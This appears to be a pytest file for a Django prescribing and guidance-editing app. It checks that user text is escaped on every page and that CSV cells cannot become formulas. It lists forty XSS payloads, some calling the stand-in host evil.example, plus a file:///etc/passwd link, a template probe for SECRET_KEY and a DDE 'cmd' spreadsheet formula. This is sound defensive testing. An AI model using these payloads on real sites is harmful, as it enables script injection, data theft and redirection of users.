"""Whatever is typed comes out as text: forty ways to make a page do something, in every text, on every page."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from typing import Any

import pytest

from accounts.models import User
from guidance.spreadsheet import BEGIN_A_FORMULA, HARMLESS_BEFORE
from prescribing.answers import ListedMedicine
from prescribing.models import Entry
from prescribing.record import Ending
from tests.cast import as_user
from tests.guidance.published import change, change_own, new_draft
from tests.journeys import prepared
from tests.prescribing.first_edition import WELL

pytestmark = pytest.mark.django_db

PAYLOADS = (
    "<script>alert(7041)</script>",
    "<ScRiPt>alert(7041)</sCrIpT>",
    "<script src=//evil.example/7041.js></script>",
    "<scr<script>ipt>alert(7041)</script>",
    "<img src=x onerror=alert(7041)>",
    '<img src="x" onerror="alert(7041)">',
    "<img/src/onerror=alert(7041)>",
    "<svg onload=alert(7041)>",
    "<svg/onload=alert(7041)//",
    "<svg><script>alert(7041)</script></svg>",
    "<math><mi xlink:href=javascript:alert(7041)>",
    "<body onload=alert(7041)>",
    "<iframe src=javascript:alert(7041)></iframe>",
    "<iframe srcdoc='<script>alert(7041)</script>'>",
    "<object data=javascript:alert(7041)>",
    "<embed src=javascript:alert(7041)>",
    "<a href=javascript:alert(7041)>trykk</a>",
    "<a href='data:text/html,<script>alert(7041)</script>'>",
    "[trykk](javascript:alert(7041))",
    "![x](javascript:alert(7041))",
    "[x]: javascript:alert(7041)",
    "<javascript:alert(7041)>",
    "javascript:alert(7041)",
    '"><script>alert(7041)</script>',
    "'><script>alert(7041)</script>",
    '" onmouseover="alert(7041)',
    "' onfocus='alert(7041)' autofocus='",
    "</textarea><script>alert(7041)</script>",
    "</title><script>alert(7041)</script>",
    "</style><script>alert(7041)</script>",
    "</script><script>alert(7041)</script>",
    "--><script>alert(7041)</script><!--",
    "]]><script>alert(7041)</script>",
    "<style>*{background:url(//evil.example/7041)}</style>",
    "<link rel=attachment href=file:///etc/passwd id=7041>",
    "<meta http-equiv=refresh content=0;url=//evil.example/7041>",
    "<base href=//evil.example/7041/>",
    "<form action=//evil.example/7041><input name=x>",
    "{{7041*1}}{% debug %}{{settings.SECRET_KEY}}",
    "&lt;script&gt;alert(7041)&lt;/script&gt;",
)
FORMULAS = (
    "=7041+1",
    "+7041",
    "-7041",
    "@SUM(7041)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(7041)",
    " =7041",
    "'=7041",
)
TAKEN = tuple(
    one for one in PAYLOADS if one[0] in "\"'j{" and "<" not in one
)  # others are HTML or links: refused
MARK = "7041"
ENDS_A_LINE = 470  # characters: as many as a reason takes, less what parts them


def batches(payloads: tuple[str, ...] = PAYLOADS) -> Iterator[str]:
    """All of them, in texts that a reason has room for."""
    text = ""
    for payload in payloads:
        if text and len(text) + len(payload) > ENDS_A_LINE:
            yield text
            text = ""
        text = f"{text} {payload}".strip()
    yield text


class Doings(HTMLParser):
    """What of a page is more than text and bears the mark: tags, attributes that are no value, scripts, styles."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.inside = ""

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.inside = tag if tag in ("script", "style") else ""
        for name, value in attrs:
            typed = name == "value" or name in ("content", "title", "aria-label", "placeholder")
            if MARK in name or (MARK in (value or "") and not typed) or name.startswith("on"):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_data(self, data: str) -> None:
        if self.inside and MARK in data:
            self.found.append(f"in <{self.inside}>: {data}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.found.append(f"in a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)


def doings(page: str) -> list[str]:
    reader = Doings()
    reader.feed(page)
    return reader.found


def test_what_is_not_escaped_is_found() -> None:
    found = [payload for payload in PAYLOADS if doings(f'<p>{payload}</p><p title="{payload}"></p>')]

    assert len(found) >= 30


def test_a_prescribers_words_are_text_on_every_page_of_a_course(lege: User) -> None:
    client = as_user(lege)
    for text in batches():
        typed = ListedMedicine(typed=text, assessed=True)
        answers = replace(prepared.ANSWERED, answers=replace(WELL, medicines=(typed,)))
        record = prepared.told(prepared.planned(record=answers), because=text)
        draft, code = prepared.draft(lege, record), prepared.signed(lege, record)
        steps = [f"/vurdering/{draft}/{step}" for step in ("helse", "valg", "samtale", "sjekk", "parker")]
        course = [
            f"/forlop/{code}{page}" for page in ("", "/ferdig", "/1/notat/kort", "/1/notat/fullt", "/1/ark")
        ]
        pages = {address: client.get(address).content.decode() for address in (*steps, *course)}

        assert {address: found for address, page in pages.items() if (found := doings(page))} == {}
        said = [" ".join(unescape(page).split()) for page in pages.values()]
        assert sum(text[:60] in page for page in said) >= 4


def test_a_prescribers_words_are_in_no_calendar(lege: User) -> None:
    code = prepared.signed(lege, prepared.told(because=next(batches())))

    assert MARK.encode() not in as_user(lege).get(f"/forlop/{code}/1/kalender.ics").content


@pytest.mark.parametrize("text", list(batches()))
def test_the_words_of_an_end_are_text(lege: User, text: str) -> None:
    code = prepared.signed(lege, prepared.ANSWERED, ending=Ending.NOT_ADVISABLE, words=text)
    client = as_user(lege)

    for page in ("", "/ferdig", "/1/notat/fullt"):
        assert doings(client.get(f"/forlop/{code}{page}").content.decode()) == []
    assert text.split(maxsplit=1)[0] in Entry.objects.get(course__code=code).note_full


def test_an_editors_words_that_hold_html_are_refused_and_stay_in_the_box(redaktor: User) -> None:
    address, client = f"/utgaver/{new_draft().code}/punkter/1", as_user(redaktor)
    form = client.get(address).context["form"]
    own = {"version": form.initial["version"], "before": form.initial["before"]}
    sent = {**form.standing, **own, "title": PAYLOADS[0], "text": "\n\n".join(PAYLOADS)}

    page = client.post(address, sent)

    assert page.status_code == 400
    assert doings(page.content.decode()) == []
    assert PAYLOADS[-2] in unescape(page.content.decode())


def test_what_an_editor_may_write_is_text_on_every_page_of_an_edition(redaktor: User) -> None:
    draft, client = new_draft(), as_user(redaktor)
    change(draft, "points", "1", title=TAKEN[0], text="\n\n".join(TAKEN))
    change_own(draft, title=TAKEN[1], intro="\n\n".join(TAKEN))
    parts = ("", "/forhandsvis", "/punkter/1", "/egenskaper", "/endringer")
    addresses = (*(f"/utgaver/{draft.code}{part}" for part in parts), "/utgaver", "/utgaver/logg")

    pages = {address: client.get(address) for address in addresses}

    assert {page.status_code for page in pages.values()} == {200}
    assert {at: found for at, page in pages.items() if (found := doings(page.content.decode()))} == {}
    assert TAKEN[1] in unescape(pages[f"/utgaver/{draft.code}/forhandsvis"].content.decode())


def test_no_cell_of_a_table_is_a_formula(redaktor: User) -> None:
    draft = new_draft()
    for formula in FORMULAS:
        change_own(draft, title=formula)

    answer = as_user(redaktor).get("/utgaver/logg.csv")

    table = b"".join(answer).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(table), delimiter=";") for cell in row]
    assert sum(MARK in cell for cell in cells) >= len(FORMULAS)
    begins = tuple(BEGIN_A_FORMULA)
    assert not [cell for cell in cells if cell.lstrip(HARMLESS_BEFORE).startswith(begins) and cell[0] != "'"]
